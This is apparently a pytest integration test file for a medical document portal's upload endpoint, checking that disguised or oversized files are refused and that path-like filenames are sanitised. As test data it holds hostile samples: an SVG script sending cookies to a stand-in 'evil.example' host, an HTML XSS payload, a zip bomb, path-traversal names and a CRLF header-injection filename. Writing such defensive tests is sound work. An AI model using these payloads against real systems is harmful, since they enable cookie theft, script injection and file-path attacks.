"""Hostile uploads to POST /documents: refused by their bytes and size, names made harmless.

A refusal leaves nothing behind: no document row, no object in S3 (SeaweedFS), no event.
"""

from __future__ import annotations

import io
import uuid
import zipfile
from urllib.parse import quote

import pytest
from security_apps import MAX_UPLOAD_BYTES, outbox_payloads
from security_tokens import bearer, mint
from sqlalchemy import func, select

from docportal.adapters.tables import documents

SHARE_PERMS = ("share_documents", "view_patients")  # what docportal's staff routes need

pytestmark = pytest.mark.integration

PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"


def zip_bomb() -> bytes:
    """Ten megabytes of zeros deflated to a few kilobytes: a zip, whatever its name says."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("plan.pdf", b"\0" * 10_000_000)
    return packed.getvalue()


SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
       b"<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>")
HTML = b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(range(64))

REFUSED = {
    "exe_renamed_pdf": (EXE, "invoice.pdf", 415),
    "zip_bomb_renamed_pdf": (zip_bomb(), "plan.pdf", 415),
    "svg_with_script": (SVG, "diagram.svg", 415),
    "svg_with_script_renamed_png": (SVG, "diagram.png", 415),
    "html_renamed_png": (HTML, "x-ray.png", 415),
    "html_renamed_pdf": (HTML, "plan.pdf", 415),
    "empty_file": (b"", "plan.pdf", 415),
    "oversized_pdf": (PDF + b"0" * MAX_UPLOAD_BYTES, "plan.pdf", 413),
    "far_oversized_pdf": (PDF + b"0" * 400_000, "plan.pdf", 413),
    "nul_in_name": (PDF, "plan\x00.exe.pdf", 400),
}


@pytest.fixture
def org_id() -> str:
    return str(uuid.uuid4())


def upload(client, org_id: str, content: bytes, filename: str):
    """The multipart body written by hand: the name goes as RFC 5987 ``filename*`` (UTF-8,
    percent-encoded), so CR, LF and NUL reach the service as a browser would send them."""
    boundary = uuid.uuid4().hex
    body = b"".join([
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"patient_id\"\r\n\r\n"
        "p-1\r\n".encode(),
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\n"
        "plan_of_care\r\n".encode(),
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; "
        f"filename=\"upload\"; filename*=UTF-8''{quote(filename, safe='')}\r\n"
        "Content-Type: application/octet-stream\r\n\r\n".encode(),
        content, f"\r\n--{boundary}--\r\n".encode(),
    ])
    return client.post("/documents", data=body,
                       content_type=f"multipart/form-data; boundary={boundary}",
                       headers=bearer(mint(None, org_id, perms=SHARE_PERMS)))


def stored_objects(seaweedfs, org_id: str) -> list[str]:
    listed = seaweedfs.client().list_objects_v2(Bucket=seaweedfs.bucket, Prefix=f"{org_id}/")
    return [item["Key"] for item in listed.get("Contents", [])]


def document_rows(app) -> int:
    with app.extensions["servicekit.runtime"].engine.connect() as conn:
        return conn.execute(select(func.count()).select_from(documents)).scalar_one()


def test_every_hostile_upload_is_refused_and_leaves_nothing_behind(
        docportal, seaweedfs, org_id):
    client = docportal.test_client()
    wrong = []
    for attack, (content, filename, status) in REFUSED.items():
        response = upload(client, org_id, content, filename)
        error = (response.get_json(silent=True) or {}).get("error", {})
        if response.status_code != status or set(error) != {"code", "message", "details"}:
            wrong.append((attack, status, response.status_code, response.get_data()[:200]))
    assert wrong == []
    assert document_rows(docportal) == 0
    assert stored_objects(seaweedfs, org_id) == []
    assert [e for e in outbox_payloads(docportal)
            if e["type"] == "docportal.document.uploaded"] == []


@pytest.mark.parametrize(("filename", "shown"), [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\Windows\\system32\\evil.pdf", "evil.pdf"),
    ("/var/lib/docportal/other-practice/plan.pdf", "plan.pdf"),
    ("report\r\nContent-Type: text/html\r\n\r\n<script>.pdf", "html_script_.pdf"),
    ("C0 \x01\x07\x1b[31m.pdf", "C0 [31m.pdf"),
    ("invoice\u202efdp.exe", "invoicefdp.exe.pdf"),
    ("plan.exe", "plan.exe.pdf"),
])
def test_a_path_like_name_is_stored_as_a_plain_name_and_never_used_as_a_path(
        docportal, seaweedfs, org_id, filename, shown):
    client = docportal.test_client()

    response = upload(client, org_id, PDF, filename)

    assert response.status_code == 201, response.get_json()
    document = response.get_json()
    assert document["filename"].endswith(shown) or document["filename"].startswith(shown)
    assert document["filename"].endswith(".pdf")
    assert not set(document["filename"]) & set("/\\\r\n\0\u202e")
    assert stored_objects(seaweedfs, org_id) == [f"{org_id}/{document['id']}"]
    download = client.get(f"/documents/{document['id']}/download",
                          headers=bearer(mint(None, org_id, perms=SHARE_PERMS)))
    assert download.status_code == 200 and download.data == PDF
    disposition = download.headers["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition and "/" not in disposition
    assert download.headers["Content-Type"] == "application/pdf"
    assert "Content-Type: text/html" not in str(download.headers)
